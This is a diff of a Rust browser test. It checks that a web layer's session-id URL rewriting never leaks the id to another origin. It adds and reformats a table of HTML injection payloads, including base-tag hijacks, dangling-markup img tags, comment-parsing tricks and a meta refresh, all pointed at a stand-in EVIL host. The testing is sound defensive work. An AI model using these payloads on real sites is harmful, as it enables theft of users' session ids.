@@ -113,26 +113,62 @@ impl Drop for Recorder {
 /// origin's `//host:port`.
 const VARIANTS: &[(&str, &str, &str)] = &[
     ("control", HTML, ""),
-    ("svg-cdata", HTML, r#"<svg><![CDATA[<base href="EVIL/app/">]]></svg>"#),
-    ("svg-cdata-gt", HTML, r#"<svg><![CDATA[><base href="EVIL/app/">]]></svg>"#),
-    ("math-cdata", HTML, r#"<math><![CDATA[><base href="EVIL/app/">]]></math>"#),
+    (
+        "svg-cdata",
+        HTML,
+        r#"<svg><![CDATA[<base href="EVIL/app/">]]></svg>"#,
+    ),
+    (
+        "svg-cdata-gt",
+        HTML,
+        r#"<svg><![CDATA[><base href="EVIL/app/">]]></svg>"#,
+    ),
+    (
+        "math-cdata",
+        HTML,
+        r#"<math><![CDATA[><base href="EVIL/app/">]]></math>"#,
+    ),
     (
         "math-mtext",
         HTML,
         r#"<math><mtext><![CDATA[><base href="EVIL/app/">]]></mtext></math>"#,
     ),
-    ("math-style", HTML, r#"<math><style><base href="EVIL/app/"></style></math>"#),
-    ("svg-style", HTML, r#"<svg><style><base href="EVIL/app/"></style></svg>"#),
-    ("noscript", HTML, r#"<noscript><base href="EVIL/app/"></noscript>"#),
+    (
+        "math-style",
+        HTML,
+        r#"<math><style><base href="EVIL/app/"></style></math>"#,
+    ),
+    (
+        "svg-style",
+        HTML,
+        r#"<svg><style><base href="EVIL/app/"></style></svg>"#,
+    ),
+    (
+        "noscript",
+        HTML,
+        r#"<noscript><base href="EVIL/app/"></noscript>"#,
+    ),
     (
         "noscript-p",
         HTML,
         r#"<noscript><p><BASE HREF=EVIL/app/></p></noscript>"#,
     ),
-    ("template", HTML, r#"<template><base href="EVIL/app/"></template>"#),
-    ("select", HTML, r#"<select><base href="EVIL/app/"></select>"#),
+    (
+        "template",
+        HTML,
+        r#"<template><base href="EVIL/app/"></template>"#,
+    ),
+    (
+        "select",
+        HTML,
+        r#"<select><base href="EVIL/app/"></select>"#,
+    ),
     ("comment", HTML, r#"<!-- <base href="EVIL/app/"> -->"#),
-    ("textarea", HTML, r#"<textarea><base href="EVIL/app/"></textarea>"#),
+    (
+        "textarea",
+        HTML,
+        r#"<textarea><base href="EVIL/app/"></textarea>"#,
+    ),
     // An attribute opened where the rewriter sees text, closed after the rewritten links:
     // whoever reads it as markup fetches a URL with the links' text in it.
     (
@@ -146,11 +182,37 @@ const VARIANTS: &[(&str, &str, &str)] = &[
         r#"<noscript><img src='EVIL/x?</noscript>"#,
     ),
     (
+        "svg-font-script",
+        HTML,
+        r#"<svg><font><script><img src='EVIL/x?</script></font></svg>"#,
+    ),
+    (
+        "svg-script",
+        HTML,
+        r#"<svg><script><![CDATA[><img src='EVIL/x?]]></script></svg>"#,
+    ),
+    (
+        "foreign-object-style",
+        HTML,
+        r#"<svg><foreignObject><style><img src='EVIL/x?</style></foreignObject></svg>"#,
+    ),
+    (
+        "select-xmp",
+        HTML,
+        r#"<select><xmp><img src='EVIL/x?</xmp></select>"#,
+    ),
+    ("comment-bang", HTML, r#"<!-- --!><img src='EVIL/x? -->"#),
+    ("comment-abrupt", HTML, r#"<!--><img src='EVIL/x? -->"#),
+    (
         "refresh",
         HTML,
         r#"<meta http-equiv="refresh" content="0;url=EVIL/refreshed">"#,
     ),
-    ("xhtml-style", XHTML, r#"<style><base href="EVIL/app/"/></style>"#),
+    (
+        "xhtml-style",
+        XHTML,
+        r#"<style><base href="EVIL/app/"/></style>"#,
+    ),
     (
         "xhtml-textarea",
         XHTML,
@@ -166,17 +228,34 @@ const VARIANTS: &[(&str, &str, &str)] = &[
 const HTML: &str = "text/html; charset=utf-8";
 const XHTML: &str = "application/xhtml+xml";
 
+/// Variants also served with a body large enough to be rewritten as it streams.
+const STREAMED: &[&str] = &["control", "svg-cdata-gt", "open-attribute", "noscript"];
+
+/// The suffix of a streamed variant's name.
+const BIG: &str = "-big";
+
 /// A variant page: the attack, then links of the application (a tracking pixel, a
-/// stylesheet, a relative image, a link, a form) and a closing `'`.
+/// stylesheet, a relative image, a link, a form) and a closing `'`. A `-big` one ends with
+/// a comment that takes it beyond the layer's buffer limit.
 fn page(name: &str, evil: SocketAddr) -> (&'static str, String) {
+    let variant = name.strip_suffix(BIG).unwrap_or(name);
     let (_, content_type, attack) = VARIANTS
         .iter()
-        .find(|(n, _, _)| *n == name)
+        .find(|(n, _, _)| *n == variant)
         .expect("a known variant");
     let attack = attack.replace("EVIL", &format!("//{evil}"));
     let links = format!(
         r#"<img id="pixel" src="/pixel/{name}"/><link rel="stylesheet" href="/style/{name}"/><img id="rel" src="rel/{name}"/><a id="next" href="/next/{name}">next</a><form id="f" action="/form/{name}"><input name="q"/></form><p title='end'>end</p>"#
     );
+    let padding = if name.ends_with(BIG) {
+        format!(
+            "<!-- {} -->",
+            "x".repeat(fastmmap::web::DEFAULT_BUFFER_LIMIT + 1)
+        )
+    } else {
+        String::new()
+    };
+    let links = format!("{links}{padding}");
     let body = if *content_type == XHTML {
         format!(
             r#"<?xml version="1.0" encoding="UTF-8"?>
@@ -201,11 +280,13 @@ fn app(path: std::path::PathBuf, addr: SocketAddr, evil: SocketAddr) -> Router {
     let routes = Router::new()
         .route(
             "/v/{name}",
-            any(move |session: Session, Path(name): Path<String>| async move {
-                session.insert("seen", &name).expect("session");
-                let (content_type, body) = page(&name, evil);
-                ([(header::CONTENT_TYPE, content_type)], body)
-            }),
+            any(
+                move |session: Session, Path(name): Path<String>| async move {
+                    session.insert("seen", &name).expect("session");
+                    let (content_type, body) = page(&name, evil);
+                    ([(header::CONTENT_TYPE, content_type)], body)
+                },
+            ),
         )
         .route(
             "/style/{*rest}",
@@ -223,7 +304,9 @@ fn no_session_id_reaches_another_origin_whatever_the_markup() {
             !browser_required(),
             "FASTMMAP_REQUIRE_BROWSER=1 but chromium is not installed (apt-get install chromium)"
         );
-        eprintln!("\nSKIPPED: the id-leak browser test needs chromium (apt-get install chromium)\n");
+        eprintln!(
+            "\nSKIPPED: the id-leak browser test needs chromium (apt-get install chromium)\n"
+        );
         return;
     };
     let evil = Recorder::start();
@@ -250,6 +333,11 @@ fn no_session_id_reaches_another_origin_whatever_the_markup() {
         id
     };
 
+    let names: Vec<String> = VARIANTS
+        .iter()
+        .map(|(n, _, _)| (*n).to_owned())
+        .chain(STREAMED.iter().map(|n| format!("{n}{BIG}")))
+        .collect();
     let mut visited = Vec::new();
     for scripts in [true, false] {
         let mut page = Page::open(&mut browser);
@@ -257,24 +345,40 @@ fn no_session_id_reaches_another_origin_whatever_the_markup() {
             "Emulation.setScriptExecutionDisabled",
             json!({ "value": !scripts }),
         );
-        for (name, _, _) in VARIANTS {
+        for name in &names {
             // The address carries the id too: the client came by a rewritten link.
             page.navigate(&format!("{origin}/v/{name}/-/{id}"));
             let evil_origin = format!("http://{evil_addr}/");
             let (href, _) = page.wait_for(name, |h, _| {
-                if *name == "refresh" {
+                if name == "refresh" {
                     h.starts_with(&evil_origin)
                 } else {
                     h.contains(&format!("/v/{name}/"))
                 }
             });
-            if *name != "refresh" {
-                let links = page.eval(
-                    "JSON.stringify([document.getElementById('pixel').src, \
-                     document.getElementById('next').href])",
-                );
-                visited.push(format!("scripts={scripts} {name}: {href} {links}"));
+            if name == "refresh" {
+                continue;
             }
+            let links = page.eval(
+                "JSON.stringify([document.getElementById('pixel') && \
+                 document.getElementById('pixel').src, document.getElementById('next') && \
+                 document.getElementById('next').href])",
+            );
+            let links: Vec<Option<String>> =
+                serde_json::from_str(links.as_str().expect("a JSON string")).unwrap();
+            // The feature still works where the page is plain, or its doubtful <base> is
+            // no base to any browser: its links carry the id, to this origin.
+            if ["control", "control-big", "template"].contains(&name.as_str()) {
+                for (what, link) in [("pixel", &links[0]), ("next", &links[1])] {
+                    let link = link.as_deref().unwrap_or("");
+                    assert!(
+                        link.starts_with(&format!("{origin}/"))
+                            && link.ends_with(&format!("/{name}/-/{id}")),
+                        "{name} (scripts {scripts}): the {what} link {link:?} lost the id"
+                    );
+                }
+            }
+            visited.push(format!("scripts={scripts} {name}: {href} {links:?}"));
         }
     }
     drop(browser);
@@ -290,7 +394,10 @@ fn no_session_id_reaches_another_origin_whatever_the_markup() {
         eprintln!("  {}", head.lines().next().unwrap_or(""));
     }
     let leaks: Vec<&String> = heads.iter().filter(|h| h.contains(&id)).collect();
-    assert!(leaks.is_empty(), "the id reached the evil origin: {leaks:#?}");
+    assert!(
+        leaks.is_empty(),
+        "the id reached the evil origin: {leaks:#?}"
+    );
     assert!(
         !heads.is_empty(),
         "the evil server recorded nothing: the refresh page alone goes there"
